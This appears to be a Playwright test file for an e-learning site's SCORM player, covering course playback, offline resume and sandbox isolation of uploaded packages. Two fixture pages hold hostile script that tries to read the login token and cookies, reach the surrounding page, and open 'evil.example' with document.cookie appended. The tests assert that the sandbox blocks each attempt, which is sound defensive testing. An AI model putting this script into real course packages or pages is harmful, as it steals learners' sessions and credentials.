// SCORM packages in a browser: they play, resume, finish a course, and reach nothing of the site.
import type { Page } from '@playwright/test'
import { makePackage, pageOf } from '../server/test/scorm-package.ts'
import { barriers } from './axe.ts'
import { expect, signIn, test } from './fixtures.ts'
import { makeCourseOf, playStyles, uploadPackage } from './packages.ts'
import { navigate } from './navigate.ts'
import { openSite, type Site } from './server.ts'

/** Tries what a hostile package would try, and shows what it got. */
const attack = `<pre id="loot"></pre><script>
const tries = {
  own: () => localStorage.getItem('token'),
  cookie: () => document.cookie,
  parent: () => parent.localStorage.getItem('token'),
  top: () => top.document.title,
  frame: () => frameElement && frameElement.ownerDocument.title,
  page: () => { top.location.href = '/web/user/info'; return 'left' },
  window: () => window.open('https://evil.example/?' + document.cookie) && 'opened',
  site: () => top.frames[0] !== window && 'another frame',
}
document.getElementById('loot').textContent = JSON.stringify(Object.fromEntries(Object.entries(tries).map(([name, act]) => {
  try { return [name, act() || ''] } catch (error) { return [name, error.name] }
})))
</script>`
const old = `<h1>消防 <b id="place"></b></h1><button onclick="go('p2')">翻到第二页</button><button onclick="pass()">完成测验</button>
<script>
API.LMSInitialize('')
const show = () => { document.getElementById('place').textContent = API.LMSGetValue('cmi.core.lesson_location') || 'p1' }
function go(to) { API.LMSSetValue('cmi.core.lesson_location', to); API.LMSSetValue('cmi.suspend_data', 'seen:' + to); API.LMSCommit(''); show() }
function pass() { API.LMSSetValue('cmi.core.score.raw', '88'); API.LMSSetValue('cmi.core.lesson_status', 'passed'); API.LMSCommit('') }
show()
</script>`
// finds the runtime as packages do: from this window upwards
const young = `<h1>急救</h1><button onclick="done()">全部看完</button><script>
let place = window
while (!place.API_1484_11 && place.parent !== place) place = place.parent
const api = place.API_1484_11
api.Initialize('')
function done() { api.SetValue('cmi.completion_status', 'completed'); api.SetValue('cmi.score.scaled', '0.7'); api.Terminate('') }
</script>`

const frameOf = (page: Page, title: string) => page.frameLocator(`iframe[title="${title}"]`)
test('packages of both versions resume, keep what could not be sent, and finish the course', async ({ site, openAs }) => {
  const [first, second] = ['消防安全（1.2）', '急救常识（2004）']
  const fileIds = [
    await uploadPackage(
      site,
      first,
      makePackage({
        items: [
          { id: 'one', title: '灭火' },
          { id: 'two', title: '疏散' },
        ],
        files: { 'one.html': pageOf(old), 'two.html': pageOf(old) },
      }),
    ),
    await uploadPackage(site, second, makePackage({ version: '2004', files: { 'one.html': pageOf(young) } })),
  ]
  const courseId = await makeCourseOf(site, '岗前安全', fileIds)
  const path = `/web/course/view/${courseId}/${fileIds[0]!}`
  const { page, context, problems } = await openAs('learner30', path)
  const inside = frameOf(page, first)
  await expect(inside.getByRole('heading', { name: '消防 p1' })).toBeVisible()
  expect(await barriers(page)).toEqual([])
  // the line is cut before the last report
  await context.setOffline(true)
  await inside.getByRole('button', { name: '翻到第二页' }).click()
  await expect(page.getByText('网络已断开，学习数据先保存在本机，恢复后自动上报。')).toBeVisible()
  await page.close()
  await context.setOffline(false)
  problems.length = 0

  const again = await context.newPage()
  await again.goto(path)
  const resumed = frameOf(again, first)
  await expect(resumed.getByRole('heading', { name: '消防 p2' })).toBeVisible()
  await resumed.getByRole('button', { name: '完成测验' }).click()
  await expect(again.getByRole('combobox', { name: '学习单元' })).toContainText('灭火（已通过 88 分）')
  await again.getByRole('button', { name: '下一单元' }).click()
  await expect(resumed.getByRole('heading', { name: '消防 p1' })).toBeVisible()
  await resumed.getByRole('button', { name: '完成测验' }).click()
  await expect(again.getByText('恭喜，您已学完本课件！')).toBeVisible()
  await again
    .getByRole('link', { name: `下一个：${second}` })
    .last()
    .click()
  await frameOf(again, second).getByRole('button', { name: '全部看完' }).click()
  await expect(again.getByText('恭喜，您已经学完全部课程啦！')).toBeVisible()
})

test('a package reaches neither the token nor the page around it', async ({ site, openAs }) => {
  const title = '外来课件'
  const fileId = await uploadPackage(site, title, makePackage({ files: { 'one.html': pageOf(attack), 'plain.html': pageOf('plain') } }))
  const courseId = await makeCourseOf(site, '外来课程', [fileId])
  const { page, problems } = await openAs('learner31', `/web/course/view/${courseId}/${fileId}`)
  const loot = frameOf(page, title).locator('#loot')
  await expect(loot).not.toBeEmpty()
  const denied = 'SecurityError'
  expect(JSON.parse((await loot.textContent()) ?? '')).toEqual({
    own: '',
    cookie: '',
    // a stand-in, which has the API and nothing else
    parent: 'TypeError',
    top: denied,
    frame: '',
    page: denied,
    window: '',
    site: '',
  })
  await expect(page).toHaveURL(new RegExp(`/web/course/view/${courseId}/`))
  const address = (await page.locator(`iframe[title="${title}"]`).getAttribute('src')) ?? ''
  const frame = page.frames().find((one) => one.url().endsWith(address))
  // calls of the site answer it as everybody, and it cannot read them
  expect(
    await frame?.evaluate(() =>
      fetch('/api/sys/config/detail', { method: 'POST' }).then(
        () => 'read',
        () => 'refused',
      ),
    ),
  ).toBe('refused')
  // the same address in a tab of its own
  await page.goto(address.replace('one.html', 'plain.html'))
  await expect(page.getByText('plain')).toBeVisible()
  expect(await page.evaluate(() => window.origin)).toBe('null')
  // what the browser says about three of these attempts
  expect(problems.splice(0)).toEqual([
    expect.stringContaining('Unsafe attempt'),
    expect.stringContaining('Blocked opening'),
    expect.stringContaining('CORS'),
  ])
})

/** The menu is in the outer page; the pages in its frame call it, and find the runtime above it. */
const outer = `<h1>框架课件</h1><b id="told"></b><iframe src="inner.html" title="inner"></iframe><script>
API.LMSInitialize('')
function told(text) { document.getElementById('told').textContent = text; return 'heard' }
</script>`
const inner = `<button onclick="finish()">学完</button><pre id="loot"></pre><script>
function finish() {
  let place = window
  while (!place.API && place.parent !== place) place = place.parent
  place.API.LMSSetValue('cmi.core.lesson_status', 'completed')
  place.API.LMSCommit('')
  const loot = { heard: parent.told('内页'), own: localStorage.getItem('token'), same: place.API === parent.parent.API }
  const tries = {
    top: () => top.localStorage.getItem('token'),
    around: () => parent.parent.parent.document.title,
    page: () => { top.location.href = '/web/user/info'; return 'left' },
    window: () => window.open('https://evil.example/') && 'opened',
  }
  for (const [name, act] of Object.entries(tries)) try { loot[name] = act() || '' } catch (error) { loot[name] = error.name }
  document.getElementById('loot').textContent = JSON.stringify(loot)
}
</script>`

/** The page of a browser test, as the journey through packages uses it. */
const asEngine = (page: Page) => ({
  async goto(url: string): Promise<void> {
    await page.goto(url)
  },
  run: <T>(body: string) => page.evaluate<T>(`(async () => {${body}})()`),
})

/** As asEngine, and once a course is open the page stays: a package that is left so ends, too. */
function asVisitor(page: Page): ReturnType<typeof asEngine> {
  let isInside = false
  return {
    ...asEngine(page),
    async goto(url) {
      if (isInside) return navigate(page, url === 'about:blank' ? '/404' : new URL(url).pathname)
      await page.goto(url)
      isInside = url.includes('/course/')
    },
  }
}

test('packages play as pages of no origin, however they look for their runtime', async ({ site, browser }) => {
  test.setTimeout(400_000)
  const page = await browser.newPage({ locale: 'zh-CN' })
  expect(await playStyles(site, asEngine(page), { isApart: false })).toMatchObject({ problems: [] })
  await page.close()
})

test.describe('on a second host name', () => {
  test.describe.configure({ timeout: 400_000 })
  let site: Site
  test.beforeAll(async () => {
    site = await openSite((port) => ({ CONTENT_HOST: `localhost:${port}` }))
  })
  test.afterAll(() => site.close())

  test('the frames of a package call one another, and reach nothing of the site', async ({ browser }) => {
    const title = '框架课件'
    const fileId = await uploadPackage(site, title, makePackage({ files: { 'one.html': pageOf(outer), 'inner.html': pageOf(inner) } }))
    const courseId = await makeCourseOf(site, '框架课程', [fileId])
    const { token } = await signIn(site, 'learner32')
    const page = await browser.newPage({ baseURL: site.url, locale: 'zh-CN' })
    await page.addInitScript(
      ([own, origin]) => {
        if (window.origin === origin) localStorage.setItem('token', own!)
      },
      [token, site.url],
    )
    await page.goto(`/web/course/view/${courseId}/${fileId}`)
    const frame = frameOf(page, title).frameLocator('iframe')
    await frame.frameLocator('iframe').getByRole('button', { name: '学完' }).click()
    await expect(frame.locator('#told')).toHaveText('内页')
    const loot = await frame.frameLocator('iframe').locator('#loot').textContent()
    expect(JSON.parse(loot ?? '')).toEqual({
      heard: 'heard',
      own: null,
      same: true,
      top: 'SecurityError',
      around: 'SecurityError',
      page: 'SecurityError',
      window: '',
    })
    await expect(page.getByText('恭喜，您已经学完全部课程啦！')).toBeVisible()
    const address = (await page.locator(`iframe[title="${title}"]`).getAttribute('src')) ?? ''
    expect((await fetch(`http:${address.replace('localhost', '127.0.0.1')}`)).status).toBe(404)
    await page.close()
  })

  test('packages play, however they look for their runtime', async ({ browser }) => {
    const page = await browser.newPage({ locale: 'zh-CN' })
    expect(await playStyles(site, asVisitor(page), { isApart: true })).toMatchObject({ problems: [] })
    await page.close()
  })
})
